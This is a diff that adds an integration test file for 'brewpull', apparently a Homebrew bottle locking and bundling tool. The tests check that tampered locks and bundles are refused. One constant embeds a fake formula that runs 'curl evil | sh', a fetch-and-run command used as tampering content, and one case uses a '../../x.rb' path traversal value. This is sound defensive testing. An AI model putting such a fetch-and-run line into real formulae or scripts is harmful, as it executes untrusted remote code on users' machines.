@@ -1,0 +1,223 @@
+import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+
+import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
+
+import { gitBlobOid } from '../../src/core/git-oid.ts';
+import { forge } from '../support/brew/forge.ts';
+import { runCli, type CliResult } from '../support/cli/run-cli.ts';
+import { startClosureWorld, type ClosureWorld } from '../support/world/closure-world.ts';
+
+const EVIL = 'class Mid < Formula\n  system "curl evil | sh"\nend\n';
+const OTHER = `sha256:${'0'.repeat(64)}`;
+
+let world: ClosureWorld;
+let home: string;
+let work: string;
+
+beforeAll(async () => {
+  world = await startClosureWorld();
+});
+afterAll(() => world[Symbol.asyncDispose]());
+beforeEach(async () => {
+  home = await mkdtemp(join(tmpdir(), 'brewpull-recorded-'));
+  work = join(home, 'work');
+  await mkdir(work);
+});
+afterEach(() => rm(home, { recursive: true, force: true }));
+
+function run(...argv: readonly string[]): Promise<CliResult> {
+  const place = ['--registry', world.registry.url.href, '--cache-dir', join(home, 'cache')];
+  return runCli([...argv, ...place, '--tap-dir', world.tap.path], { cwd: work });
+}
+
+type Bottle = Record<string, unknown> & { readonly formula: string };
+
+/** Changes what a text of a lock says of `mid`. */
+function editMid(text: string, change: (mid: Bottle, target: Bottle) => void): string {
+  const lock = JSON.parse(text);
+  for (const target of lock.targets) {
+    const mid = target.bottles.find(({ formula }: Bottle) => formula === 'mid');
+    change(mid, target);
+  }
+  return `${JSON.stringify(lock, null, 2)}\n`;
+}
+
+async function makeLock(change: (mid: Bottle, target: Bottle) => void): Promise<void> {
+  const made = await run('lock', 'mid', '--target', 'big_sur', '--lock', 'l.json');
+  expect(made.code).toBe(0);
+  const path = join(work, 'l.json');
+  await writeFile(path, editMid(await readFile(path, 'utf8'), change));
+}
+
+type Use = readonly [command: string, argv: readonly string[]];
+const USES: readonly Use[] = [
+  ['bundle', ['--frozen', '-o', 'b']],
+  ['bundle', ['mid', '--locked', '-o', 'b']],
+  ['bundle', ['mid', '-o', 'b']],
+  ['pull', ['--frozen', '-o', 'out']],
+  ['pull', ['mid', '--deps', '--locked', '-o', 'out']],
+];
+
+const READERS: readonly Use[] = [...USES, ['plan', ['--frozen']], ['lock', ['mid']]];
+
+test.each(READERS)(
+  'a formula in a lock that has not its object id is refused (%s %j)',
+  async (command, argv) => {
+    await makeLock((mid) => (mid['formulaText'] = EVIL));
+    const before = await readFile(join(work, 'l.json'), 'utf8');
+    const { code, stderr } = await run(command, ...argv, '--lock', 'l.json');
+
+    expect(code).toBe(4);
+    const oid = gitBlobOid(Buffer.from(EVIL), '0'.repeat(40));
+    expect(stderr).toContain(
+      `formulaText of mid has the git object id ${oid}, and formulaBlob says`,
+    );
+    expect(await readdir(work)).toEqual(['l.json']);
+    expect(await readFile(join(work, 'l.json'), 'utf8')).toBe(before);
+  },
+);
+
+test.each<[string, (mid: Bottle, target: Bottle) => void, string]>([
+  [
+    'no object id beside a text',
+    (mid) => (mid['formulaBlob'] = null),
+    'has no formulaBlob beside it',
+  ],
+  [
+    'an id that is neither SHA-1 nor SHA-256',
+    (mid) => (mid['formulaBlob'] = 'a'.repeat(50)),
+    'formulaBlob',
+  ],
+  [
+    'a URL of another bottle',
+    (mid) => (mid['url'] = `https://ghcr.io/v2/x/blobs/${OTHER}`),
+    'a URL that does not end in',
+  ],
+  [
+    'a bottle for a newer macOS',
+    (mid) => Object.assign(mid, { bottleTag: 'sonoma', fileName: 'mid--1.0.sonoma.bottle.tar.gz' }),
+    'a bottle that this target cannot use',
+  ],
+])('a lock with %s is refused', async (_what, change, message) => {
+  await makeLock(change);
+  const { code, stderr } = await run('bundle', '--frozen', '--lock', 'l.json', '-o', 'b');
+
+  expect(code).toBe(4);
+  expect(stderr).toContain('l.json is not a lock of brewpull');
+  expect(stderr).toContain(message);
+});
+
+test.each(USES)(
+  'a size in a lock that is not that of the bytes is refused (%s %j)',
+  async (command, argv) => {
+    await makeLock((mid) => (mid['sizeBytes'] = 5));
+    const { code, stderr } = await run(command, ...argv, '--lock', 'l.json');
+
+    expect(code).toBe(command === 'pull' && argv.includes('--deps') ? 6 : 4);
+    expect(stderr).toMatch(
+      /the size of mid--1\.0\.big_sur\.bottle\.tar\.gz: the lock says 5 bytes, .* says \d+ bytes/,
+    );
+    expect(await readdir(work)).not.toContain('b');
+    expect(
+      JSON.parse(await readFile(join(work, 'l.json'), 'utf8')).targets[0].bottles,
+    ).toContainEqual(expect.objectContaining({ formula: 'mid', sizeBytes: 5 }));
+  },
+);
+
+test('a manifest in a lock that is not the one of the pinned index is refused', async () => {
+  await makeLock((mid) => (mid['manifestDigest'] = OTHER));
+  const { code, stderr } = await run('bundle', '--frozen', '--lock', 'l.json', '-o', 'b');
+
+  expect(code).toBe(4);
+  expect(stderr).toContain(
+    `the manifest of mid--1.0.big_sur.bottle.tar.gz: the lock says ${OTHER}`,
+  );
+});
+
+test('a lock as it was made is good for all of these', async () => {
+  await makeLock(() => undefined);
+  for (const [at, [command, argv]] of USES.entries()) {
+    await rm(join(work, 'b'), { recursive: true, force: true });
+    await rm(join(work, 'out'), { recursive: true, force: true });
+    const { code, stderr } = await run(command, ...argv, '--lock', 'l.json');
+    expect([at, code, stderr.includes('error')]).toEqual([at, 0, false]);
+  }
+});
+
+async function makeBundle(): Promise<string> {
+  expect((await run('bundle', 'mid', '--target', 'big_sur', '-o', 'b')).code).toBe(0);
+  // Bytes of its own: the bottles may be hard links.
+  return join(work, 'b');
+}
+
+async function formulaOfMid(bundle: string): Promise<string> {
+  const files = await readdir(join(bundle, 'formulae'), { recursive: true });
+  const found = files.find((file) => file.endsWith('mid.rb'));
+  if (found === undefined) throw new Error('the bundle has no formula of mid');
+  return `formulae/${found}`;
+}
+
+test('a formula in a bundle is held against the lock in it', async () => {
+  const bundle = await makeBundle();
+  const file = await formulaOfMid(bundle);
+  expect((await run('verify', 'b')).code).toBe(0);
+  await forge(bundle, file, () => EVIL);
+  const { code, stdout } = await run('verify', 'b');
+
+  expect(code).toBe(4);
+  expect(stdout).toContain(
+    `${file} has the git object id ${gitBlobOid(Buffer.from(EVIL), '')}, the lock says`,
+  );
+  expect((await runCli(['serve', 'b', '--port', '0'], { cwd: work })).code).toBe(4);
+});
+
+test.each<[string, (mid: Bottle) => void, RegExp]>([
+  ['formulaText', (mid) => (mid['formulaText'] = EVIL), /formulaText of mid has the git object id/],
+  ['sizeBytes', (mid) => (mid['sizeBytes'] = 5), /says sizeBytes 5 of mid, bundle\.json \d+/],
+  [
+    'manifestDigest',
+    (mid) => (mid['manifestDigest'] = OTHER),
+    /says manifestDigest sha256:0+ of mid/,
+  ],
+  ['indexDigest', (mid) => (mid['indexDigest'] = OTHER), /says indexDigest sha256:0+ of mid/],
+  [
+    'isRequested',
+    (mid) => (mid['isRequested'] = false),
+    /says isRequested false of mid, bundle\.json true/,
+  ],
+  ['cellar', (mid) => (mid['cellar'] = '/opt/x/Cellar'), /says cellar \/opt\/x\/Cellar of mid/],
+  ['commit', (mid) => (mid['commit'] = '0'.repeat(40)), /says commit 0+ of mid/],
+  ['path', (mid) => (mid['path'] = '../../x.rb'), /cannot stand in a bundle/],
+])('a lock in a bundle with another %s is found', async (_field, change, message) => {
+  const bundle = await makeBundle();
+  await forge(bundle, 'brewpull.lock.json', (text) => editMid(text, change));
+  const { code, stdout } = await run('verify', 'b');
+
+  expect(code).toBe(4);
+  expect(stdout).toMatch(message);
+});
+
+test('a lock in a bundle that knows a bottle more or less is found', async () => {
+  const bundle = await makeBundle();
+  await forge(bundle, 'brewpull.lock.json', (text) =>
+    editMid(text, (mid) => Object.assign(mid, { tap: 'other/tap' })),
+  );
+  const { code, stdout } = await run('verify', 'b');
+
+  expect(code).toBe(4);
+  expect(stdout).toContain('brewpull.lock.json says nothing of mid for big_sur');
+  expect(stdout).toContain('brewpull.lock.json has mid for big_sur, which bundle.json has not');
+});
+
+test('a receipt in a bundle that tells of other bytes is found', async () => {
+  const bundle = await makeBundle();
+  await forge(bundle, 'receipts/receipt.json', (text) =>
+    text.replaceAll(/"sizeBytes": \d+/g, '"sizeBytes": 7'),
+  );
+  const { code, stdout } = await run('verify', 'b');
+
+  expect(code).toBe(4);
+  expect(stdout).toMatch(/receipts\/receipt\.json says sizeBytes 7 of mid, bundle\.json \d+/);
+});
